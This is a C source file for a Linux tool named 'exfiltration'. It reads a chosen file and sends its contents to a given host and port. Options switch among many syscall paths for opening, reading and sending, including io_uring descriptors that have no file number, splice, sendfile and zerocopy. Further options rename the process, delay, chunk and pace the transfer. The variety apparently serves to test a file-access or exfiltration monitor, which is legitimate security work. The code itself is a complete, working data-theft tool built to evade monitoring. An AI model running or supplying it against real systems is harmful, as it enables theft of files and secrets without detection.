/* exfiltration HOST PORT KEY [WHAT=WAY...]: sends the file KEY to HOST, in the ways that the words say. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define MUST(call) must(#call, call)

static long must(const char *what, long result)
{
	if (result < 0)
		err(1, "%s", what);
	return result;
}

static char **words;
static char data[1 << 16];
static size_t size;

/* The way that was asked for, or the usual one. */
static const char *way(const char *what, const char *usual)
{
	for (char **word = words; *word; word++)
		if (!strncmp(*word, what, strlen(what)) && (*word)[strlen(what)] == '=')
			return *word + strlen(what) + 1;
	return usual;
}

static int is(const char *one, const char *other) { return !strcmp(one, other); }

/* --- io_uring, with one request at a time ------------------------------------------------------ */

static struct {
	int fd;
	char *rings;
	struct io_uring_params is;
	struct io_uring_sqe *entries;
} queue = { .fd = -1 };

static void set_up_queue(void)
{
	queue.fd = MUST(syscall(SYS_io_uring_setup, 4, &queue.is));
	size_t bytes = queue.is.cq_off.cqes + queue.is.cq_entries * sizeof(struct io_uring_cqe);
	queue.rings = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, queue.fd, IORING_OFF_SQ_RING);
	queue.entries = mmap(NULL, 4 * sizeof *queue.entries, PROT_READ | PROT_WRITE, MAP_SHARED,
			     queue.fd, IORING_OFF_SQES);
	if (queue.rings == MAP_FAILED || queue.entries == MAP_FAILED)
		err(1, "mmap");
	int none[2] = { -1, -1 };
	MUST(syscall(SYS_io_uring_register, queue.fd, IORING_REGISTER_FILES, none, 2));
}

static long request(struct io_uring_sqe entry)
{
	if (queue.fd < 0)
		set_up_queue();
	volatile unsigned *tail = (unsigned *)(queue.rings + queue.is.sq_off.tail);
	volatile unsigned *head = (unsigned *)(queue.rings + queue.is.cq_off.head);
	queue.entries[*tail & 3] = entry;
	((unsigned *)(queue.rings + queue.is.sq_off.array))[*tail & 3] = *tail & 3;
	__sync_synchronize();
	*tail = *tail + 1;
	MUST(syscall(SYS_io_uring_enter, queue.fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0L));
	struct io_uring_cqe *all = (struct io_uring_cqe *)(queue.rings + queue.is.cq_off.cqes);
	long result = all[*head & (queue.is.cq_entries - 1)].res;
	*head = *head + 1;
	if (result < 0) {
		errno = -result;
		err(1, "io_uring, operation %d", entry.opcode);
	}
	return result;
}

/* --- opening ----------------------------------------------------------------------------------- */

static int open_by_handle(const char *key)
{
	struct { struct file_handle is; char room[128]; } handle = { .is.handle_bytes = 128 };
	char at[4096];
	int mount;
	MUST(name_to_handle_at(AT_FDCWD, key, &handle.is, &mount, 0));
	int directory = MUST(open(dirname(strcpy(at, key)), O_RDONLY | O_DIRECTORY));
	return MUST(open_by_handle_at(directory, &handle.is, O_RDONLY));
}

static int open_key(const char *key)
{
	const char *how = way("open", "openat");
	char at[4096], name[4096], other[8192];
	strcpy(at, key), strcpy(name, key);
	char *directory = dirname(at), *base = basename(name);
	struct open_how flags = { .flags = O_RDONLY };
	if (is(how, "openat"))
		return MUST(openat(AT_FDCWD, key, O_RDONLY));
	if (is(how, "open"))
		return MUST(syscall(SYS_open, key, O_RDONLY));
	if (is(how, "openat2"))
		return MUST(syscall(SYS_openat2, AT_FDCWD, key, &flags, sizeof flags));
	if (is(how, "rdwr"))
		return MUST(open(key, O_RDWR | O_CREAT | O_APPEND, 0600));
	if (is(how, "handle"))
		return open_by_handle(key);
	if (is(how, "relative")) {
		MUST(chdir(directory));
		snprintf(other, sizeof other, "./%s", base);
		return MUST(open(other, O_RDONLY));
	}
	if (is(how, "directory")) {
		int fd = MUST(open(directory, O_PATH | O_DIRECTORY));
		return MUST(openat(fd, base, O_RDONLY));
	}
	if (is(how, "root")) {
		snprintf(other, sizeof other, "/proc/self/root%s", key);
		return MUST(open(other, O_RDONLY));
	}
	if (is(how, "again")) {
		snprintf(other, sizeof other, "/proc/self/fd/%ld", MUST(open(key, O_PATH)));
		return MUST(open(other, O_RDONLY));
	}
	if (is(how, "tree")) {
		int fd = MUST(syscall(SYS_open_tree, AT_FDCWD, directory, 1 | O_CLOEXEC));
		return MUST(openat(fd, base, O_RDONLY));
	}
	if (is(how, "uring"))
		return request((struct io_uring_sqe){ .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
						      .addr = (unsigned long)key });
	if (is(how, "uring-only")) {
		/* A file of the io_uring's own: it never has a number. */
		request((struct io_uring_sqe){ .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
					       .addr = (unsigned long)key, .file_index = 2 });
		return 1;
	}
	errx(2, "open=%s", how);
}

/* --- reading ----------------------------------------------------------------------------------- */

static void take(const char *key)
{
	const char *how = way("take", "read");
	int fd = open_key(key);
	struct iovec part = { data, sizeof data };
	long got = 0;
	if (is(how, "read"))
		got = read(fd, data, sizeof data);
	else if (is(how, "pread"))
		got = pread(fd, data, sizeof data, 0);
	else if (is(how, "preadv2"))
		got = preadv2(fd, &part, 1, 0, 0);
	else if (is(how, "uring"))
		got = request((struct io_uring_sqe){
			.opcode = IORING_OP_READ, .fd = fd, .addr = (unsigned long)data, .len = sizeof data,
			.flags = is(way("open", ""), "uring-only") ? IOSQE_FIXED_FILE : 0 });
	else if (is(how, "mmap") || is(how, "mmap-shared")) {
		struct stat told;
		MUST(fstat(fd, &told));
		void *at = mmap(NULL, told.st_size, PROT_READ, is(how, "mmap") ? MAP_PRIVATE : MAP_SHARED, fd, 0);
		if (at == MAP_FAILED)
			err(1, "mmap");
		close(fd);
		memcpy(data, at, got = told.st_size);
	} else if (is(how, "copy")) {
		int copy = MUST(open(way("copy", ""), O_RDWR | O_CREAT | O_TRUNC, 0600));
		MUST(copy_file_range(fd, NULL, copy, NULL, sizeof data, 0));
		got = pread(copy, data, sizeof data, 0);
	} else
		errx(2, "take=%s", how);
	size = must(how, got);
}

/* --- the socket -------------------------------------------------------------------------------- */

static union {
	struct sockaddr any;
	struct sockaddr_in four;
	struct sockaddr_in6 six;
} there;
static socklen_t there_size;

static int out(const char *host, const char *port)
{
	const char *net = way("net", "tcp");
	int is_six = strchr(host, ':') != NULL;
	there.any.sa_family = is_six ? AF_INET6 : AF_INET;
	there_size = is_six ? sizeof there.six : sizeof there.four;
	there.four.sin_port = htons(atoi(port));
	if (inet_pton(there.any.sa_family, host, is_six ? (void *)&there.six.sin6_addr : &there.four.sin_addr) != 1)
		errx(2, "%s", host);
	int fd = MUST(socket(there.any.sa_family, is(net, "tcp") ? SOCK_STREAM : SOCK_DGRAM, 0));
	if (is(way("send", ""), "fastopen") || is(net, "datagrams"))
		return fd;
	if (is(way("connect", ""), "uring"))
		request((struct io_uring_sqe){ .opcode = IORING_OP_CONNECT, .fd = fd, .off = there_size,
					       .addr = (unsigned long)&there });
	else
		MUST(connect(fd, &there.any, there_size));
	return fd;
}

static long send_part(int fd, const char *how, char *from, size_t length)
{
	struct iovec parts[2] = { { from, length / 2 }, { from + length / 2, length - length / 2 } };
	struct mmsghdr message = { .msg_hdr = { .msg_iov = parts, .msg_iovlen = 2 } };
	if (is(way("net", ""), "datagrams"))
		message.msg_hdr.msg_name = &there, message.msg_hdr.msg_namelen = there_size;
	int pipes[2], one = 1;
	if (is(how, "write"))
		return write(fd, from, length);
	if (is(how, "writev"))
		return writev(fd, parts, 2);
	if (is(how, "send"))
		return send(fd, from, length, 0);
	if (is(how, "sendto"))
		return sendto(fd, from, length, 0, message.msg_hdr.msg_name, message.msg_hdr.msg_namelen);
	if (is(how, "sendmsg"))
		return sendmsg(fd, &message.msg_hdr, 0);
	if (is(how, "sendmmsg"))
		return sendmmsg(fd, &message, 1, 0) == 1 ? (long)length : -1;
	if (is(how, "fastopen"))
		return sendto(fd, from, length, MSG_FASTOPEN, &there.any, there_size);
	if (is(how, "zerocopy")) {
		MUST(setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof one));
		return send(fd, from, length, MSG_ZEROCOPY);
	}
	if (is(how, "vmsplice")) {
		MUST(pipe(pipes));
		MUST(vmsplice(pipes[1], parts, 2, 0));
		return splice(pipes[0], NULL, fd, NULL, length, 0);
	}
	if (is(how, "uring") || is(how, "uring-write"))
		return request((struct io_uring_sqe){
			.opcode = is(how, "uring") ? IORING_OP_SEND : IORING_OP_WRITE, .fd = fd,
			.addr = (unsigned long)from, .len = length });
	errx(2, "send=%s", how);
}

/* Sends straight from the file, so that the program never has the bytes. */
static void send_file(int fd, const char *how, const char *key)
{
	int file = open_key(key), one[2], two[2];
	if (is(how, "sendfile")) {
		while (MUST(sendfile(fd, file, NULL, sizeof data)))
			;
		return;
	}
	MUST(pipe(one));
	MUST(pipe(two));
	size = MUST(splice(file, NULL, one[1], NULL, sizeof data, 0));
	int is_tee = is(how, "tee");
	if (is_tee)
		MUST(tee(one[0], two[1], size, 0));
	MUST(splice(is_tee ? two[0] : one[0], NULL, fd, NULL, size, 0));
}

int main(int count, char **arguments)
{
	if (count < 4)
		errx(2, "usage: exfiltration HOST PORT KEY [WHAT=WAY...]");
	const char *host = arguments[1], *port = arguments[2], *key = arguments[3];
	words = arguments + 4;
	prctl(PR_SET_NAME, way("name", "exfiltration"));
	const char *how = way("send", "write");
	int is_straight = is(how, "sendfile") || is(how, "splice") || is(how, "tee");
	int connects_first = is(way("first", "read"), "connect") || is_straight;
	int fd = connects_first ? out(host, port) : -1;
	/* Until somebody makes the file. */
	for (const char *go = way("go", NULL); go && access(go, F_OK); usleep(20000))
		;
	if (is_straight) {
		send_file(fd, how, key);
		return 0;
	}
	take(key);
	sleep(atoi(way("wait", "0")));
	if (!connects_first)
		fd = out(host, port);
	size_t chunk = atoi(way("chunk", "65536"));
	for (size_t from = 0; from < size; from += chunk) {
		size_t length = size - from < chunk ? size - from : chunk;
		must(how, send_part(fd, how, data + from, length));
		usleep(1000 * atoi(way("pause", "0")));
	}
	/* The peer is to have it all before the end. */
	shutdown(fd, SHUT_WR);
	return 0;
}
